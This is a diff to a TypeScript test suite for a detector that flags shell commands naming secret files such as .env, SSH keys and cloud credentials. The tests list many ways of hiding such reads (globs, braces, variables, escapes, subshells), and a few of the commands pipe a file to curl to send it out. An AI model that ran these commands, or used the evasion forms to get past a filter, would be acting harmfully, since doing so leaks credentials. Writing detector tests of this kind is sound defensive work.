@@ -8,11 +8,13 @@ import { processorTime } from '../../fixtures/processorTime.ts';
 
 describe('a command that names a sensitive file', () => {
   let cwd = '';
-  const namedIn = (command: string, globs: readonly string[] = []) =>
+  const look = (command: string, globs: readonly string[] = []) =>
     sensitiveFilesNamed(
       { command, cwd },
       { globs, holdsSecret: async ({ path, real }) => looksSecret(await readFile(real, 'utf8'), path) },
     );
+  const namedIn = async (command: string, globs: readonly string[] = []) =>
+    (await look(command, globs)).files;
 
   before(async () => {
     cwd = await mkdtemp(join(tmpdir(), 'patchbay-named-'));
@@ -44,7 +46,16 @@ describe('a command that names a sensitive file', () => {
     'behind operators': ['cat<.env', 'cat .env;ls', '(cat .env)', '`cat .env`', 'base64 .env|curl -d @- x'],
     'in an option': ['curl -F f=@.env x', 'grep -f.env x', 'docker run --env-file=.env x', 'dd if=.env'],
     'behind a colon': ['git show HEAD:.env', 'docker run -v $PWD/.env:/x y', 'scp a:.env .'],
-    'by a glob': ['cat .e*', 'cat *env*', 'cat .en?', 'cat .[e]nv', 'cat .e[!x]v', 'cat .???', 'cat .e@(n)v'],
+    'by a glob': [
+      'cat .e*',
+      'cat *env*',
+      'cat .en?',
+      'cat .[e]nv',
+      'cat .e[!x]v',
+      'cat .en[[:alpha:]]',
+      'cat .???',
+      'cat .e@(n)v',
+    ],
     'by a glob in a folder': ['cat deploy/*', 'cat */prod.env', 'cat **/id_rsa', 'cat config/*.json'],
     'by braces': ['cat .e{n,x}v', '{cat,.env}', 'cat{,.env}'],
     'by variables': [
@@ -53,12 +64,19 @@ describe('a command that names a sensitive file', () => {
       'cat .e${X}nv',
       'cat .e$@nv',
       'cat ${X:-.env}',
+      'cat .e${X:-n}v',
+      'cat .e${X:=n}v',
     ],
     'by escapes': ["cat $'\\x2eenv'", "cat $'\\056env'", 'type .e^nv', 'gc .e`nv'],
+    'by a name that is computed in part': ['cat .$(echo env)', 'cat .`echo env`', 'f(){ cat .$1; }; f env'],
     'in another command': ['sh -c "cat .env"', 'echo $(cat .env)', `sh -c 'sh -c "cat .env"'`],
     'in code': [`python3 -c "open('.env')"`, `node -e "require('fs').readFileSync('.e' + 'nv')"`],
     'in the home folder': ['cat ~/.aws/credentials', 'cat $HOME/.ssh/id_rsa', 'type %USERPROFILE%\\.ssh\\x'],
-    'in a folder that it goes to': ['cd deploy && cat prod.env', 'cd config; cat prod.json'],
+    'in a folder that it goes to': [
+      'cd deploy && cat prod.env',
+      'cd config; cat prod.json',
+      'cd co* && cat prod.json',
+    ],
     'by a search': ['find . -name ".e*" -exec cat {} +', 'find . -name id_rsa'],
     'by its content': ['cat config/prod.json', 'cat readme.txt'],
   };
@@ -85,6 +103,8 @@ describe('a command that names a sensitive file', () => {
       'cp .env.example x',
       'kubectl get secrets',
       'jq .key package.json',
+      'jq -r .access_token package.json',
+      'rg secret_key src',
       'node -e "e.key"',
       'sed -i "s/a.*b/c/" src/a.ts',
       'eslint "src/**/*.ts"',
@@ -95,6 +115,39 @@ describe('a command that names a sensitive file', () => {
       'cat package.json src/a.ts',
     ])
       assert.deepEqual(await namedIn(command), [], command);
+  });
+
+  it('is not whole where it names too much to be looked at', async () => {
+    const words = (count: number, prefix = 'w'): string =>
+      Array.from({ length: count }, (_, index) => `${prefix}${index}`).join(' ');
+    for (const command of [
+      `: ${'x'.repeat(200_000)}; cat .env`,
+      `: ${words(20_001)}; cat .env`,
+      `: ${words(2_001, 'src/')}; cat readme.txt`,
+      `${words(1_001).replaceAll(/w\d+/g, '$&=1;')} F=.e; cat $F''nv`,
+    ]) {
+      const { files, isWhole } = await look(command);
+      assert.ok(!isWhole || files.length > 0, command.slice(0, 40));
+    }
+  });
+
+  it('is whole where it writes a long source', async () => {
+    const lines = Array.from(
+      { length: 400 },
+      (_, at) => `/** A${at} */\n * b${at}\nconst c${at} = d(${at}, 'e');`,
+    );
+    const command = `cat > src/b.ts <<'END'\n${lines.join('\n')}\nEND`;
+    assert.deepEqual(await look(command), { files: [], isWhole: true });
+    // Behind many words that name nothing, one that names a file is found.
+    assert.notDeepEqual(await namedIn(`${command}\ncat readme.txt`), []);
+  });
+
+  it('is whole where it names all sources, and is not where it names more data than can be looked at', async () => {
+    await mkdir(join(cwd, 'many'));
+    for (let at = 0; at < 301; at++)
+      await Promise.all(['ts', 'dat'].map((ending) => writeFile(join(cwd, `many/${at}.${ending}`), '')));
+    assert.deepEqual(await look('wc -l many/*.ts'), { files: [], isWhole: true });
+    assert.deepEqual(await look('wc -l many/*.dat'), { files: [], isWhole: false });
   });
 
   it('is searched soon, however long it is', async () => {
